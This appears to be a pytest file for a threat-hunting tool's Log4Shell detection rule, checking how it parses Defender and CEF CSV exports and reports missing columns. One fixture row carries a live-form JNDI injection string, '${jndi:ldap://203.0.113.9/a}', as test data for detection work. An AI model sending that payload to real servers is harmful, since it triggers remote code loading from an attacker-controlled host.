"""Real export formats for ``hunt --local``: columns needed per branch, raw web-server logs,
Event Hub records, the window hint and day-first timestamps."""

from __future__ import annotations

import csv
from collections.abc import Callable
from pathlib import Path
from typing import Any

from conftest import Run

NOW = "2026-03-01T12:00:00Z"


def _csv(path: Path, rows: list[dict[str, Any]]) -> str:
    with path.open("w", newline="", encoding="utf-8") as handle:
        writer = csv.DictWriter(handle, fieldnames=list(rows[0]))
        writer.writeheader()
        writer.writerows(rows)
    return str(path)


def _hunt(cli: Callable[..., Run], rule: str, *files: str, timespan: str = "1h") -> Run:
    return cli("hunt", "--rule", rule, "--local", *files, "--now", NOW, "--timespan", timespan,
               "-o", "json")


def test_defender_network_export_does_not_need_time_generated(
        tmp_path: Path, cli: Callable[..., Run]) -> None:
    # An advanced-hunting export: Timestamp, no TimeGenerated (that branch filters on Timestamp).
    path = _csv(tmp_path / "DeviceNetworkEvents.csv", [
        {"Timestamp": "2026-03-01T11:30:02.1234567Z", "DeviceName": "app-tomcat-01",
         "ActionType": "ConnectionSuccess", "RemoteIP": "198.51.100.23", "RemotePort": "1389",
         "RemoteIPType": "Public", "RemoteUrl": "", "InitiatingProcessFileName": "java.exe",
         "InitiatingProcessCommandLine": "java -jar app.jar",
         "InitiatingProcessAccountName": "svc-tomcat"},
        {"Timestamp": "2026-03-01T11:40:00Z", "DeviceName": "app-tomcat-01",
         "ActionType": "ConnectionSuccess", "RemoteIP": "10.0.0.10", "RemotePort": "389",
         "RemoteIPType": "Private", "RemoteUrl": "ldap://dc01", "InitiatingProcessFileName":
         "java.exe", "InitiatingProcessCommandLine": "", "InitiatingProcessAccountName": ""},
    ])
    run = _hunt(cli, "log4shell_jndi_lookup", path)
    assert run.code == 0, run.stderr
    doc = run.json()
    assert [(f["HostName"], f["Payload"]) for f in doc["findings"]] == [
        ("app-tomcat-01", "198.51.100.23:1389")]
    assert doc["warnings"] == []


def test_cef_export_needs_only_its_branch_columns_and_warns_for_output_ones(
        tmp_path: Path, cli: Callable[..., Run]) -> None:
    # No ProcessName, RemotePort, Computer, DeviceName, RemoteIP (other branches' and output
    # names) and none of the columns this branch only shows.
    path = _csv(tmp_path / "CommonSecurityLog.csv", [
        {"TimeGenerated": "2026-03-01T11:14:00Z", "RequestURL": "https://shop.example.com/",
         "RequestClientApplication": "${jndi:ldap://203.0.113.9/a}", "RequestContext": "",
         "RequestCookies": "", "AdditionalExtensions": ""},
    ])
    run = _hunt(cli, "log4shell_jndi_lookup", path)
    assert run.code == 0, run.stderr
    doc = run.json()
    [finding] = doc["findings"]
    assert finding["ExploitEvidence"] == "JNDI lookup in request"
    assert finding["HostName"] is None and finding["SourceIP"] is None
    assert doc["warnings"] == [
        f"{path}: no DestinationHostName, DestinationIP, SourceIP, SourceUserName column(s); "
        "the CommonSecurityLog query only shows them, so they are null in the findings"]


def test_missing_needed_column_names_only_needed_ones(
        tmp_path: Path, cli: Callable[..., Run]) -> None:
    path = _csv(tmp_path / "CommonSecurityLog.csv", [
        {"TimeGenerated": "2026-03-01T11:14:00Z", "RequestURL": "https://shop.example.com/"}])
    run = _hunt(cli, "log4shell_jndi_lookup", path)
    assert run.code == 2
    assert run.stderr.strip() == (
        f"error: {path}: missing columns the CommonSecurityLog query needs: "
        "AdditionalExtensions, RequestClientApplication, RequestContext, RequestCookies")
